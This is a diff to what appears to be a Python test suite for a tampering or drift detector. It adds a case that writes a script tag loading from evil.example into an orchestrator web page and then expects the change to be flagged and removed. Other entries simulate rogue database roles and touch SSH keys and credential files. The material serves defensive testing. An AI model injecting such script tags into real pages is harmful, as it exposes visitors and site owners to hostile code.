@@ -164,6 +164,7 @@ _EXTRA_PROGRAM = _file("run/supervisor/programs/extra.conf")
 _GIVEN_PROGRAM = _file("run/supervisor/programs/alertmanager.conf")
 _DOTENV = _file("data/orchestrator/.env")
 _KEYS_OF_SSH = _file(".ssh/authorized_keys")
+_PAGE = _file("data/orchestrator/home/pages/v2/index.html")
 _BLOCKED = _file("etc/node-exporter/web.yml")
 _MAY_LOG_IN = '_rows("SELECT rolname FROM pg_roles WHERE rolcanlogin OR rolsuper")'
 _KEYS = _file("etc/object-store/s3.json")
@@ -272,6 +273,11 @@ EDITS = {
             "role-membership/lakehouse/evil: evil has the privileges of lakehouse [lakehouse_remove_foreign: bindings]",
         ),
         _says(f"'evil' not in {_MAY_LOG_IN}"),
+    ),
+    "page of the orchestrator": Edit(
+        lambda lakehouse: _PAGE(lakehouse).write_text("<script src=//evil.example></script>"),
+        _names("pages of the orchestrator: v2/index.html differs"),
+        lambda lakehouse: "evil" not in _PAGE(lakehouse).read_text(),
     ),
     "suspended deployment": Edit(
         _does(f"prefect.patch('deployments/' + {_PAUSED}['id'], {{'paused': True}})"),
